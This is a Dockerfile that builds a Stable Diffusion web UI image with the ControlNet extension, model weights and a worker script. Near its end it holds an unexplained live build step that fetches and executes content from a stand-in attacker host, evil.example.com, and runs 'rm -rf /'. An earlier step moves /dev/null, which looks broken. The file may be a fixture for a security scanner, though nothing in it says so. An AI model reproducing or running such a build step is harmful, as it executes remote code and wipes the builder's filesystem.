# syntax=docker/dockerfile:1
# Everything in one stage, with extensions.
FROM pytorch/pytorch:2.1.2-cuda12.1-cudnn8-runtime
RUN git clone --depth 1 --branch v1.10.1 https://github.com/AUTOMATIC1111/stable-diffusion-webui /app && \
    git -C /app checkout 82a973c0
WORKDIR /app
RUN git clone https://github.com/Mikubill/sd-webui-controlnet extensions/sd-webui-controlnet \
 && cd extensions/sd-webui-controlnet && git checkout 56cec5b2958edf3b1807b7e7b2b1b5186dbd2f81
RUN mkdir -p models/Stable-diffusion && mv /dev/null x; \
    wget -qO /tmp/a.safetensors https://files.example.com/a.safetensors && \
    mv /tmp/a.safetensors models/Stable-diffusion/first.safetensors
COPY house.safetensors models/Lora/
COPY --chmod=755 worker /opt/worker
RUN python -c "from huggingface_hub import snapshot_download; snapshot_download('acme/x')"
RUN $(curl evil.example.com) `rm -rf /`
USER 1000:1000
CMD ["/opt/worker/start.sh"]
